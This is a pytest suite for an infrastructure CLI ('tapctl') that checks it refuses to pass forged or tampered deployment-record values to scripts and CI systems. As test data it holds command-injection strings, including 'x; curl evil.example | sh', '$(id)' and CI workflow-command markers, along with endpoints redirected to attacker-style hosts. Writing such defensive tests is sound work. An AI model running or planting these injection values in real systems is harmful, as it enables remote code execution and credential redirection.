"""status, outputs, manifest show, parity: what is recorded, told to people and programs; dev and staging deployed."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from tests.support.world import World


@pytest.fixture(scope="module")
def two(shared: World) -> World:
    shared.deploy()
    shared.applied("staging")
    return shared


def test_what_neither_record_nor_files_hold_stands_among_what_is_not_compared(two: World) -> None:
    tags = {"ManagedBy": "tapctl", "EnvironmentSuffix": "dev", "Environment": "dev"}
    listed = [{"Key": key, "Value": value} for key, value in tags.items()]
    rds, name = two.client("rds"), "db-cluster-params-pg17-dev"
    group = {"DBClusterParameterGroupName": name, "DBParameterGroupFamily": "aurora-postgresql16", "Description": "-"}
    rds.create_db_cluster_parameter_group(**group, Tags=listed)
    told = two.drift()
    assert told.code == 0
    assert "others of ours: what bears our names and tags" in told.records[-1]["not_compared"][-1]
    assert f"db-cluster-parameter-group  {name}" in two.tapctl("plan", "--destroy", "--env", "dev").out
    rds.delete_db_cluster_parameter_group(DBClusterParameterGroupName=name)


@pytest.fixture
def record(two: World) -> Iterator[World]:
    """dev's record may be spoilt."""
    before = two.path().read_bytes()
    yield two
    two.path().write_bytes(before)


def test_outputs_are_what_scripts_need(two: World) -> None:
    (cluster,) = two.client("rds").describe_db_clusters()["DBClusters"]
    groups = {
        one["GroupName"]: one["GroupId"] for one in two.client("ec2").describe_security_groups()["SecurityGroups"]
    }
    version = two.keep_version()
    answer = two.tapctl("outputs", "--env", "dev")
    version.unlink()
    assert (answer.code, answer.err, answer.asked) == (0, "", ())
    assert dict(line.split("=", 1) for line in answer.out.splitlines()) == {
        "cluster_arn": cluster["DBClusterArn"],
        "cluster_endpoint": cluster["Endpoint"],
        "cluster_identifier": "db-cluster-dev",
        "cluster_reader_endpoint": cluster["ReaderEndpoint"],
        "cluster_resource_id": cluster["DbClusterResourceId"],
        "database_log_group": "/aws/rds/cluster/db-cluster-dev/postgresql",
        "db_security_group_id": groups["db-sg-dev"],
        "function_arn": "arn:aws:lambda:us-east-2:123456789012:function:payment-processor-dev",
        "function_log_group": "/aws/lambda/payment-processor-dev",
        "function_name": "payment-processor-dev",
        "key_alias": "alias/db-key-dev",
        "key_arn": cluster["KmsKeyId"],
        "lambda_security_group_id": groups["lambda-sg-dev"],
        "role_arn": "arn:aws:iam::123456789012:role/lambda-role-dev",
        "secret_arn": cluster["MasterUserSecret"]["SecretArn"],
        "topic_arn": "arn:aws:sns:us-east-2:123456789012:alarms-dev",
    }


def test_one_output_is_its_bare_value(two: World) -> None:
    answer = two.tapctl("outputs", "function_name", "--env", "staging")
    assert (answer.code, answer.out, answer.err) == (0, "payment-processor-staging\n", "")


def test_outputs_for_programs(two: World) -> None:
    told = two.tapctl("outputs", "--env", "dev", "--json").of_type("output")
    assert {"type": "output", "name": "function_name", "value": "payment-processor-dev"} in told
    (one,) = two.tapctl("outputs", "function_name", "--env", "dev", "--json").of_type("output")
    assert one == {"type": "output", "name": "function_name", "value": "payment-processor-dev"}


@pytest.mark.parametrize(
    ("arguments", "code", "words"),
    [
        (["nonsense", "--env", "dev"], 64, ["no output nonsense", "cluster_endpoint"]),
        (["--env", "prod"], 3, ["no record of prod", "tapctl apply --env prod"]),
        (["--env", "dev", "--suffix", "pr-9"], 3, ["no record of pr-9", "tapctl apply --env dev --suffix pr-9"]),
        (["--env", "nowhere"], 3, ["nowhere", "is no environment", "dev, prod, staging"]),
        (["--env", "dev", "--suffix", "../../etc"], 3, ["--suffix"]),
    ],
)
def test_outputs_of_what_is_not_there(two: World, arguments: list[str], code: int, words: list[str]) -> None:
    answer = two.tapctl("outputs", *arguments)
    # A script that takes the answer gets nothing instead of it.
    assert (answer.code, answer.out) == (code, "")
    assert answer.err.splitlines()[-1].endswith(": FAILED")
    for word in words:
        assert word in answer.err


@pytest.mark.parametrize(
    "value",
    [
        "a.example\nPATH=/tmp",
        "x; curl evil.example | sh",
        "$(id)",
        "`id`",
        "a b",
        "",
        "::set-output::x y",
        "a\x1b[2J",
        "ä",
    ],
)
@pytest.mark.parametrize("name", ["cluster_endpoint", None])
def test_a_forged_output_is_not_handed_to_a_script(record: World, value: str, name: str | None) -> None:
    forged = record.manifest()
    forged["entries"]["db-cluster/db-cluster-dev"]["outputs"]["endpoint"] = value
    record.path().write_text(json.dumps(forged))
    answer = record.tapctl("outputs", *filter(None, [name]), "--env", "dev")
    assert (answer.code, answer.out) == (3, "")
    assert "entries.db-cluster/db-cluster-dev.outputs.endpoint: " in answer.err
    assert all(line.isprintable() for line in answer.err.splitlines())


def test_an_output_that_a_shell_would_expand_is_not_handed_to_a_script(record: World) -> None:
    forged = record.manifest()
    forged["entries"]["db-cluster/db-cluster-dev"]["outputs"]["arn"] += "*"
    record.path().write_text(json.dumps(forged))
    answer = record.tapctl("outputs", "--env", "dev")
    assert (answer.code, answer.out) == (3, "")
    assert "cluster_arn = " in answer.err


@pytest.mark.parametrize(
    ("type_", "id_", "name", "value"),
    [
        ("db-cluster", "db-cluster-dev", "endpoint", "db.evil.example"),
        (
            "db-cluster",
            "db-cluster-dev",
            "endpoint",
            "db-cluster-dev.cluster-x1.us-east-2.rds.amazonaws.com.evil.example",
        ),
        ("db-cluster", "db-cluster-dev", "reader_endpoint", "db-cluster-dev.cluster-ro-x1.rds.evil.example"),
        ("db-cluster", "db-cluster-dev", "secret_arn", "arn:aws:secretsmanager:us-east-2:999999999999:secret:x"),
        ("db-cluster", "db-cluster-dev", "secret_arn", "arn:aws:secretsmanager:us-east-2:123456789012:secret:x-AbCdEf"),
        ("db-cluster", "db-cluster-dev", "endpoint", "db-cluster-dev.cluster-evil1.us-east-2.rds.amazonaws.com"),
        ("db-cluster", "db-cluster-dev", "resource_id", "cluster-evil"),
        ("security-group", "db-sg-dev", "group_id", "sg-evil"),
        ("iam-role", "lambda-role-dev", "arn", "arn:aws:iam::123456789012:role/billing"),
        ("sns-topic", "alarms-dev", "arn", "arn:aws:sns:us-east-2:123456789012:billing"),
        ("sns-topic", "billing", "arn", "arn:aws:sns:us-east-2:123456789012:billing"),
    ],
)
def test_an_output_of_something_else_is_not_handed_to_a_script(
    record: World, type_: str, id_: str, name: str, value: str
) -> None:
    """Whoever writes the record would be sent what a script sends there."""
    forged = record.manifest()
    whole = {"type": type_, "id": id_, "needs": [], "phase": "made", "spec": {}, "outputs": {}}
    forged["entries"].setdefault(f"{type_}/{id_}", whole)["outputs"][name] = value
    record.path().write_text(json.dumps(forged))
    record.patch.delenv("AWS_ENDPOINT_URL")
    answer = record.tapctl("outputs", "--env", "dev")
    record.patch.setenv("AWS_ENDPOINT_URL", record.door.url)
    assert (answer.code, answer.out) == (3, "")
    assert value in answer.err or f"{type_}/{id_}" in answer.err, answer.err


def test_what_the_function_is_given_otherwise_is_not_handed_to_a_script(record: World) -> None:
    path, forged = record.path(), record.manifest()
    outputs = forged["entries"]["db-cluster/db-cluster-dev"]["outputs"]
    given = forged["entries"]["lambda-function/payment-processor-dev"]["spec"]["environment"]
    outputs["secret_arn"] = outputs["secret_arn"][:-6] + "AbCdEf"
    for unfinished, code in ((False, 3), (True, 0)):
        # An apply that has made the cluster anew may not have got to the function.
        path.write_text(json.dumps(forged | {"unfinished": unfinished}))
        answer = record.tapctl("outputs", "secret_arn", "--env", "dev")
        assert answer.code == code, answer.err
    assert given["DB_SECRET_ARN"] not in answer.err
    assert "bears out secret_arn" in answer.err


@pytest.mark.parametrize("unsettled", ["unfinished", "half made", "confirmed otherwise"])
def test_a_host_that_the_function_is_not_given_is_an_output_of_no_record(record: World, unsettled: str) -> None:
    """Only another secret is what a run that was cut off may leave: an account has one name for its hosts."""
    path, forged = record.path(), record.manifest()
    function = forged["entries"]["lambda-function/payment-processor-dev"]
    outputs = forged["entries"]["db-cluster/db-cluster-dev"]["outputs"]
    host = outputs["endpoint"].split(".")[1].removeprefix("cluster-")
    for name in ("endpoint", "reader_endpoint"):
        outputs[name] = outputs[name].replace(host, "evil1")
    forged["unfinished"] = unsettled == "unfinished"
    if not forged["unfinished"]:
        function |= {"phase": "making", "confirmed": None if unsettled == "half made" else function["spec"]}
    if unsettled == "confirmed otherwise":
        function["spec"] = {**function["spec"], "environment": {}}
    path.write_text(json.dumps(forged))
    record.patch.delenv("AWS_ENDPOINT_URL")
    answer = record.tapctl("outputs", "cluster_endpoint", "--env", "dev")
    record.patch.setenv("AWS_ENDPOINT_URL", record.door.url)
    assert (answer.code, answer.out) == (3, "")
    assert "and environment.DB_ENDPOINT of lambda-function/payment-processor-dev = " in answer.err
    found = {(one["address"], one["field"]) for one in record.drift().of_type("finding")}
    assert ("db-cluster/db-cluster-dev", "endpoint") in found


def test_without_a_history_the_hosts_of_other_records_of_the_account_are_what_bears_out_a_host(two: World) -> None:
    """Who may write the record may take its history away. An account has one name in a region for all its hosts."""
    mine = two.tapctl("outputs", "cluster_endpoint", "--env", "dev")
    assert (mine.code, "no earlier version of the record of dev is kept" in mine.err) == (0, True)
    own = mine.out.partition(".cluster-")[2].partition(".")[0]
    text, theirs = two.path().read_text(), two.path("pr-9")
    theirs.write_text(text.replace("-dev", "-pr-9").replace('"suffix": "dev"', '"suffix": "pr-9"'))
    broken = two.path("pr-8")
    broken.write_text("{")
    two.patch.delenv("AWS_ENDPOINT_URL")
    again = two.tapctl("outputs", "cluster_endpoint", "--env", "dev")
    two.path().write_text(text.replace(own, "evil0evil0ev"))
    forged = two.tapctl("outputs", "cluster_endpoint", "--env", "dev")
    two.patch.setenv("AWS_ENDPOINT_URL", two.door.url)
    two.path().write_text(text)
    theirs.unlink()
    broken.unlink()
    assert (again.code, again.out) == (0, mine.out), again.err
    assert (forged.code, forged.out) == (3, ""), forged.err
    assert "cluster_endpoint = db-cluster-pr-9.cluster-" in forged.err


def test_outputs_that_nothing_bears_out_after_a_run_that_was_cut_off_are_told_as_such(record: World) -> None:
    version = record.keep_version()
    path, cut = record.path(), record.manifest() | {"unfinished": True}
    path.write_text(json.dumps(cut))
    assert record.tapctl("outputs", "--env", "dev").err == "", "the function bears them out all the same"
    del cut["entries"]["lambda-function/payment-processor-dev"]
    path.write_text(json.dumps(cut))
    answer = record.tapctl("outputs", "cluster_endpoint", "--env", "dev")
    assert (answer.code, answer.out.count("\n")) == (0, 1)
    told = "a run was cut off, and no other place of the record of dev bears out"
    assert answer.err == f"warning: {told} cluster_endpoint: tapctl drift --env dev holds it against AWS\n"
    every = record.tapctl("outputs", "--env", "dev").err
    assert f"{told} cluster_endpoint, lambda_security_group_id, role_arn, secret_arn: " in every
    assert record.tapctl("outputs", "key_arn", "--env", "dev").err == ""
    version.unlink()


def test_outputs_of_what_a_run_that_was_cut_off_was_changing_are_there_and_told_as_such(record: World) -> None:
    cut = record.manifest()
    entry = cut["entries"]["db-cluster/db-cluster-dev"]
    endpoint = entry["outputs"]["endpoint"]
    entry |= {"phase": "making", "confirmed": entry["spec"]}
    record.path().write_text(json.dumps(cut))
    answer = record.tapctl("outputs", "cluster_endpoint", "--env", "dev")
    assert (answer.code, answer.out) == (0, f"{endpoint}\n")
    assert (
        "a run was cut off while it changed what cluster_endpoint is of: tapctl drift --env dev holds it" in answer.err
    )
    assert "cluster_endpoint, cluster_reader_endpoint, cluster_arn, " in record.tapctl("outputs", "--env", "dev").err
    # One that was never read back has none.
    del entry["confirmed"]
    record.path().write_text(json.dumps(cut | {"unfinished": True}))
    left_out = record.tapctl("outputs", "--env", "dev")
    assert (left_out.code, endpoint in left_out.out) == (0, False)
    assert "left out, for the record of dev does not tell it: cluster_endpoint, cluster_reader_endpoint" in left_out.err
    named = record.tapctl("outputs", "cluster_endpoint", "--env", "dev")
    assert (named.code, named.out) == (3, "")
    assert "the record of dev does not tell cluster_endpoint" in named.err


OTHER_SECRET = "arn:aws:secretsmanager:us-east-2:123456789012:secret:x"
CLUSTER, FUNCTION = "db-cluster/db-cluster-dev", "lambda-function/payment-processor-dev"


@pytest.mark.parametrize(
    "remove",
    [
        lambda entries: entries.pop(FUNCTION),
        lambda entries: entries[FUNCTION].update(phase="kept"),
        # A destroy that was cut off.
        lambda entries: entries[FUNCTION].update(phase="leaving") or entries.pop(CLUSTER),
    ],
)
def test_an_output_whose_other_place_in_the_record_is_gone_is_not_handed_to_a_script_and_nobody_is_blamed(
    record: World, remove: Callable[[Any], object]
) -> None:
    forged = record.manifest()
    remove(forged["entries"])
    record.path().write_text(json.dumps(forged))
    answer = record.tapctl("outputs", "--env", "dev")
    assert (answer.code, answer.out) == (3, "")
    assert "nothing in the record of dev bears out " in answer.err
    assert "somebody has taken that out: tapctl drift --env dev asks AWS" in answer.err
    assert "put an earlier version" not in answer.err


@pytest.mark.parametrize(
    ("forge", "told"),
    [
        (
            lambda entries: entries[FUNCTION]["spec"]["environment"].pop("DB_ENDPOINT"),
            f"environment.DB_ENDPOINT of {FUNCTION} = None",
        ),
        (
            lambda entries: entries[FUNCTION]["spec"].update(environment="x"),
            f"environment.DB_SECRET_ARN of {FUNCTION} = x",
        ),
        (
            lambda entries: entries["secret-rotation/db-cluster-dev"]["outputs"].update(secret_arn=OTHER_SECRET),
            f"and secret_arn of secret-rotation/db-cluster-dev = {OTHER_SECRET}",
        ),
        (
            lambda entries: entries["kms-key/alias/db-key-dev"]["outputs"].update(
                arn="arn:aws:kms:us-east-2:123456789012:key/1", key_id="1"
            ),
            f"and kms_key_arn of {CLUSTER} = ",
        ),
        (
            lambda entries: entries["kms-key/alias/db-key-dev"]["outputs"].update(key_id="1"),
            "key_arn = ",
        ),
        (
            lambda entries: entries["security-group/lambda-sg-dev"]["outputs"].update(group_id="sg-0bad"),
            f"and security_group_ids of {FUNCTION} = ",
        ),
        (
            lambda entries: entries["security-group/db-sg-dev"]["outputs"].update(group_id="sg-0bad"),
            "and group_id of security-group-rules/db-sg-dev = ",
        ),
        (
            lambda entries: entries[CLUSTER]["outputs"].update(resource_id="cluster-EVIL"),
            "and inline of iam-role/lambda-role-dev = ",
        ),
        (
            lambda entries: entries["iam-role/lambda-role-dev"]["outputs"].update(
                arn="arn:aws:iam::123456789012:role/evil/lambda-role-dev"
            ),
            f"and role_arn of {FUNCTION} = ",
        ),
    ],
)
def test_an_output_that_another_place_of_the_record_tells_otherwise_is_not_handed_to_a_script(
    record: World, forge: Callable[[Any], object], told: str
) -> None:
    forged = record.manifest()
    forge(forged["entries"])
    record.path().write_text(json.dumps(forged))
    answer = record.tapctl("outputs", "--env", "dev")
    assert (answer.code, answer.out) == (3, "")
    assert told in answer.err


def test_an_output_that_the_history_tells_otherwise_is_not_handed_to_a_script(two: World) -> None:
    """Whoever may write the record writes all of its places alike."""
    path = two.path("staging")
    before = path.read_text()
    outputs = json.loads(before)["entries"]["db-cluster/db-cluster-staging"]["outputs"]
    host = outputs["endpoint"].split(".")[1].removeprefix("cluster-")
    forged = {
        "cluster_endpoint": before.replace(host, "evil0evil0ev"),
        "secret_arn": before.replace(outputs["secret_arn"], f"{outputs['secret_arn'][:-6]}AbCdEf"),
        "cluster_resource_id": before.replace(outputs["resource_id"], "cluster-EVIL"),
    }
    for name, text in forged.items():
        path.write_text(text)
        answer = two.tapctl("outputs", name, "--env", "staging")
        path.write_text(before)
        assert (answer.code, answer.out) == (3, ""), name
        assert f"{name} = " in answer.err
        assert " in the history, which has serial " in answer.err


@pytest.mark.parametrize("host", ["rds.cn-north-1", "cn-north-1.rds"])
def test_a_host_in_china_is_an_output(record: World, host: str) -> None:
    """There the host of a cluster is written in another order than elsewhere."""
    path = record.path()
    there = path.read_text().replace("arn:aws:", "arn:aws-cn:")
    there = there.replace("us-east-2.rds.amazonaws.com", f"{host}.amazonaws.com.cn").replace("us-east-2", "cn-north-1")
    path.write_text(there)
    record.patch.delenv("AWS_ENDPOINT_URL")
    answer = record.tapctl("outputs", "cluster_endpoint", "--env", "dev", "--region", "cn-north-1")
    record.patch.setenv("AWS_ENDPOINT_URL", record.door.url)
    assert answer.code == 0, answer.err
    assert answer.out.endswith(f".{host}.amazonaws.com.cn\n")


def test_a_host_of_another_emulator_is_an_output(record: World) -> None:
    other = record.manifest()
    host = other["entries"]["db-cluster/db-cluster-dev"]["outputs"]["endpoint"]
    record.path().write_text(json.dumps(other).replace(host, "localhost.localstack.cloud"))
    answer = record.tapctl("outputs", "cluster_endpoint", "--env", "dev")
    assert (answer.code, answer.out) == (0, "localhost.localstack.cloud\n")


@pytest.mark.parametrize(
    ("aws", "url"),
    [
        ("real", "http://127.0.0.1:1"),
        ("sandbox", "http://127.0.0.1:1"),
        ("endpoint", "https://vpce-1-2.rds.us-east-2.vpce.amazonaws.com"),
        ("endpoint", "https://vpce-1-2.rds.us-east-2.vpce.amazonaws.com:443/"),
        ("endpoint", "https://rds.us-east-2.api.aws"),
    ],
)
def test_the_hosts_of_aws_are_those_of_its_records_whatever_endpoint_the_user_goes_by(
    record: World, aws: str, url: str
) -> None:
    """A gateway in front of the real AWS changes no host of its clusters."""
    honest = record.manifest() | {"aws": aws}
    host = honest["entries"]["db-cluster/db-cluster-dev"]["outputs"]["endpoint"]
    record.patch.setenv("AWS_ENDPOINT_URL", url)
    record.path().write_text(json.dumps(honest))
    own = record.tapctl("outputs", "cluster_endpoint", "--env", "dev")
    record.path().write_text(json.dumps(honest).replace(host, "db.evil.example.com"))
    answer = record.tapctl("outputs", "cluster_endpoint", "--env", "dev")
    record.patch.setenv("AWS_ENDPOINT_URL", record.door.url)
    assert own.out == f"{host}\n"
    assert (answer.code, answer.out) == (3, "")
    assert "cluster_endpoint = 'db.evil.example.com'" in answer.err


def test_a_host_that_a_cut_off_run_has_not_given_the_function_is_no_output_of_the_real_aws(record: World) -> None:
    """There an account has one name for its hosts, whatever endpoint the user goes by."""
    cut = record.manifest() | {"aws": "real", "unfinished": True}
    outputs = cut["entries"]["db-cluster/db-cluster-dev"]["outputs"]
    host = outputs["endpoint"].split(".")[1].removeprefix("cluster-")
    for name in ("endpoint", "reader_endpoint"):
        outputs[name] = outputs[name].replace(host, "evil1")
    record.path().write_text(json.dumps(cut))
    answer = record.tapctl("outputs", "cluster_endpoint", "--env", "dev")
    assert (answer.code, answer.out) == (3, "")


def test_outputs_that_the_record_lacks_are_left_out(record: World) -> None:
    forged = record.manifest()
    del forged["entries"]["db-cluster/db-cluster-dev"]["outputs"]["endpoint"]
    del forged["entries"]["security-group/db-sg-dev"]["outputs"]["group_id"]
    record.path().write_text(json.dumps(forged))
    answer = record.tapctl("outputs", "--env", "dev")
    assert answer.code == 0
    assert "cluster_arn=" in answer.out
    assert "cluster_endpoint=" not in answer.out
    assert "db_security_group_id=" not in answer.out


def test_a_record_that_speaks_to_a_ci_system_is_shown_as_the_same_json_without_speaking(record: World) -> None:
    forged = record.manifest()
    forged["entries"]["sns-topic/alarms-dev"]["spec"]["tags"]["a"] = "##vso[task.x]\n::error::y"
    record.path().write_text(json.dumps(forged))
    for flags in ([], ["--json"]):
        answer = record.tapctl("manifest", "show", "--env", "dev", *flags)
        assert "##vso" not in answer.out
        document = answer.of_type("document")[0] if flags else json.loads(answer.out)
        assert document["entries"] == forged["entries"]


def test_status_is_one_row_an_environment(two: World) -> None:
    answer = two.tapctl("status")
    assert (answer.code, answer.changes) == (0, ())
    head, *rows, verdict = answer.out.splitlines()
    columns = ["environment", "suffix", "account", "region", "resources", "since", "by", "config", "health"]
    assert head.split() == columns
    assert [row.split()[:5] for row in rows] == [
        ["dev", "dev", "123456789012", "us-east-2", str(len(two.stack("dev")))],
        ["staging", "staging", "123456789012", "us-west-2", str(len(two.stack("staging")))],
    ]
    assert all(row.split()[6:] == ["user/moto", "current", "healthy"] for row in rows)
    assert [row.split()[5] for row in rows] == [two.manifest(one)["written_at"] for one in ("dev", "staging")]
    assert verdict == "STATUS all: 2 deployed · 2 healthy · not looked at, no record: prod"


def test_status_of_one(two: World) -> None:
    answer = two.tapctl("status", "--env", "staging")
    assert answer.verdict == "STATUS staging: 1 deployed · 1 healthy"
    assert two.tapctl("status", "--suffix", "staging").verdict == "STATUS staging: 1 deployed · 1 healthy"
    assert (
        two.tapctl("status", "--env", "prod").verdict
        == "STATUS prod: 0 deployed · 0 healthy · no record, and nothing in AWS under its names"
    )
    assert two.tapctl("status", "--env", "nowhere").code == 3


@pytest.mark.soak
def test_status_says_what_is_not_well(two: World) -> None:
    two.client("cloudwatch", "us-east-2").delete_alarms(AlarmNames=["db-cpu-0-dev"])
    two.edit("dev.toml", "memory_mb = 1024", "memory_mb = 2048")
    answer = two.tapctl("status", "--json")
    two.edit("dev.toml", "memory_mb = 2048", "memory_mb = 1024")
    two.applied("dev")
    dev, staging = answer.of_type("status")
    assert dev["health"] == "cloudwatch-alarm/db-cpu-0-dev is missing"
    assert dev["config"] == "differs from the files"
    assert (staging["health"], staging["config"]) == ("healthy", "current")
    assert answer.records[-1]["counts"] == {"deployed": 2, "unhealthy": 1}


def test_status_tells_what_the_record_says_where_aws_cannot_be_asked(two: World) -> None:
    two.edit("dev.toml", "memory_mb = 1024", "memory_mb = 1")
    answer = two.tapctl("status", "--json")
    two.edit("dev.toml", "memory_mb = 1", "memory_mb = 1024")
    dev, staging = answer.of_type("status")
    assert answer.code == 3
    assert dev["health"].startswith("unknown: the configuration is not valid (environments/dev.toml: ")
    assert dev["resources"] == len(two.stack())
    assert staging["health"] == "healthy"


def kept_key(record: dict[str, Any]) -> dict[str, Any]:
    """The entries of a record after a destroy whose key has gone since."""
    entry = record["entries"]["kms-key/alias/db-key-dev"]
    return {"kms-key/alias/db-key-dev": {**entry, "phase": "kept", "kept_until": "2020-01-01"}}


@pytest.mark.soak
def test_status_is_of_what_is_deployed(two: World) -> None:
    path = two.path("gone")
    record = two.manifest()
    text = json.dumps({**record, "suffix": "gone", "entries": kept_key(record)})
    path.write_text(text.replace("-dev", "-gone"))
    every, named = two.tapctl("status", "--json"), two.tapctl("status", "--suffix", "gone")
    path.unlink()
    # What was destroyed is not deployed.
    assert [one["suffix"] for one in every.of_type("status")] == ["dev", "staging"]
    assert named.verdict == "STATUS gone: 0 deployed · 0 healthy"


@pytest.mark.parametrize(
    ("here", "phase", "said"),
    [
        ("sns-topic/alarms-dev", "making", "was left half made: tapctl apply --env dev goes on"),
        # With nothing gone, the record's word alone, which whoever may write it can have it say, is no destroy's.
        ("sns-topic/alarms-dev", "leaving", "was left half removed: tapctl apply --env dev goes on"),
        # No apply makes it any more: it was an apply that was removing it.
        ("cloudwatch-alarm/db-cpu-5-dev", "leaving", "was left half removed: tapctl apply --env dev goes on"),
    ],
)
def test_status_says_what_was_interrupted(record: World, here: str, phase: str, said: str) -> None:
    half = record.manifest()
    type_, _, id_ = here.partition("/")
    entry = half["entries"]["sns-topic/alarms-dev" if type_ == "sns-topic" else "cloudwatch-alarm/db-cpu-0-dev"]
    half["entries"][here] = {**entry, "phase": phase, "id": id_}
    record.path().write_text(json.dumps(half))
    (dev,) = record.tapctl("status", "--env", "dev", "--json").of_type("status")
    assert dev["health"] == f"{here} {said}"


def test_manifest_show_is_the_record_itself(two: World) -> None:
    answer = two.tapctl("manifest", "show", "--env", "dev")
    assert (answer.code, answer.err, answer.asked) == (0, "", ())
    assert answer.out == two.path().read_text()
    (told,) = two.tapctl("manifest", "show", "--env", "dev", "--json").of_type("document")
    assert {name: value for name, value in told.items() if name != "type"} == json.loads(answer.out)


def test_the_history_of_an_apply_is_one_row_and_versions_can_be_compared(two: World) -> None:
    (row,) = two.tapctl("manifest", "history", "--env", "staging", "--json").of_type("row")
    assert (row["made"], row["begun"]) == (len(two.stack("staging")), 0)
    assert "kms-key/alias/db-key-staging" in row["addresses"]["made"]
    assert row["what"].startswith(f"{len(two.stack('staging'))} made: ")
    answer = two.tapctl("manifest", "diff", "--from", "1", "--env", "staging")
    assert (answer.code, answer.asked) == (0, ())
    assert f"differences between serial 1 and serial {row['serial']}" in answer.verdict


def test_parity_holds_with_only_allowed_differences(two: World) -> None:
    answer = two.tapctl("parity")
    assert (answer.code, answer.asked) == (0, ())
    assert answer.verdict.startswith("PARITY all: OK")
    assert "0 not allowed" in answer.verdict
    assert "compared 3 environments, 2 of them by their manifests too" in answer.verdict
    rows = two.tapctl("parity", "--json").of_type("difference")
    assert {row["verdict"] for row in rows} == {"allowed"}
    memory = next(row for row in rows if row["what"] == "processor.memory_mb")
    assert memory["values"] == {"dev": 1024, "prod": 4096, "staging": 2048}
    assert {row["where"] for row in rows} == {"files", "manifests"}


def test_parity_of_what_was_destroyed_is_that_of_its_file(record: World) -> None:
    gone = record.manifest()
    gone["entries"] = kept_key(gone)
    record.path().write_text(json.dumps(gone))
    assert "compared 3 environments, 1 of them by their manifests too" in record.tapctl("parity").verdict


@pytest.mark.parametrize("phase", ["making", "leaving", "kept", ""])
def test_parity_is_not_ok_about_what_a_run_has_left_half_way(two: World, phase: str) -> None:
    function = "lambda-function/payment-processor"
    written = {env: two.path(env).read_text() for env in ("dev", "staging")}
    for env, text in written.items():
        record = json.loads(text)
        entry = record["entries"].pop(f"{function}-{env}")
        if phase:
            # The same in no environment: nothing of it is compared.
            changed = entry["spec"] | {"timeout_s": len(env)}
            record["entries"][f"{function}-{env}"] = entry | {"phase": phase, "spec": changed}
        two.path(env).write_text(json.dumps(record))
    answer = two.tapctl("parity", "--json")
    for env, text in written.items():
        two.path(env).write_text(text)
    (row,) = (one for one in answer.of_type("difference") if one["verdict"] == "UNKNOWN")
    told = f"recorded as {phase}" if phase else "not recorded"
    assert (row["what"], row["values"]) == (f"{function}-<name>", {"dev": told, "staging": told})
    assert (answer.code, answer.records[-1]["counts"]["unknown"]) == (7, 1)


def test_parity_of_two(two: World) -> None:
    answer = two.tapctl("parity", "dev", "staging")
    assert answer.code == 0
    assert "compared 2 environments, 2 of them by their manifests too" in answer.verdict
    unknown = two.tapctl("parity", "dev", "nowhere")
    assert unknown.code == 3
    assert "nowhere" in unknown.err
    assert "dev, prod, staging" in unknown.err


def test_parity_shows_a_release_on_its_way(two: World) -> None:
    two.edit("prod.toml", '# image = { tag = "1.0.1" }', 'image = { tag = "1.0.1" }')
    answer = two.tapctl("parity", "--json")
    two.edit("prod.toml", 'image = { tag = "1.0.1" }', '# image = { tag = "1.0.1" }')
    (row,) = (one for one in answer.of_type("difference") if one["what"] == "processor.image.tag")
    assert (row["verdict"], row["values"]) == ("allowed", {"dev": "1.0.0", "prod": "1.0.1", "staging": "1.0.0"})


def test_parity_does_not_allow_two_images_under_one_tag(record: World) -> None:
    pushed = record.manifest()
    spec = pushed["entries"]["lambda-function/payment-processor-dev"]["spec"]
    spec["image_uri"] = f"{spec['image_uri'].partition('@')[0]}@sha256:{'7' * 64}"
    record.path().write_text(json.dumps(pushed))
    answer = record.tapctl("parity", "--json")
    assert answer.code == 2
    (row,) = (one for one in answer.of_type("difference") if one["verdict"] == "NOT ALLOWED")
    assert row["what"] == "lambda-function/payment-processor-<name> image_uri"
    assert row["values"]["dev"].endswith("7" * 64)
    # Another tag may be another image, while a release is promoted.
    record.edit("dev.toml", "[processor]", '[processor]\nimage = { tag = "1.0.1" }')
    config_hash = record.tapctl("validate", "--env", "dev", "--json").of_type("output")[0]["value"]
    record.path().write_text(json.dumps({**pushed, "config_hash": config_hash}))
    promoted = record.tapctl("parity", "--json")
    record.edit("dev.toml", '[processor]\nimage = { tag = "1.0.1" }', "[processor]")
    assert promoted.code == 0


def test_parity_in_the_middle_of_a_rollout_names_who_has_not_been_applied(record: World) -> None:
    applied = record.manifest()
    applied["entries"]["lambda-function/payment-processor-dev"]["spec"]["timeout_s"] = 60
    applied["entries"]["db-cluster/db-cluster-dev"]["spec"]["backup_window"] = "01:00-02:00"
    record.edit("common.toml", "timeout_s = 30", "timeout_s = 60")
    config_hash = record.tapctl("validate", "--env", "dev", "--json").of_type("output")[0]["value"]
    record.path().write_text(json.dumps({**applied, "config_hash": config_hash}))
    text, answer = record.tapctl("parity"), record.tapctl("parity", "--json")
    record.edit("common.toml", "timeout_s = 60", "timeout_s = 30")
    since = record.manifest("staging")["written_at"]
    assert (text.code, answer.code) == (2, 2)
    assert f"staging has not been applied since {since}, and its files have changed" in text.out
    assert "NOT ALLOWED" not in text.out
    assert "0 not allowed · 1 not applied · compared 3 environments, 1 of them" in text.verdict
    counts = answer.records[-1]["counts"]
    assert (counts["disallowed"], counts["not_applied"]) == (0, 1)


def test_parity_reports_a_recorded_difference_that_is_not_allowed(record: World) -> None:
    spoilt = record.manifest()
    spoilt["entries"]["db-cluster/db-cluster-dev"]["spec"]["backup_retention_days"] = 1
    record.path().write_text(json.dumps(spoilt))
    answer = record.tapctl("parity")
    assert answer.code == 2
    assert answer.verdict.startswith("PARITY all: DIFFERENT")
    (row,) = (line for line in answer.out.splitlines() if "NOT ALLOWED" in line)
    assert "backup_retention_days" in row
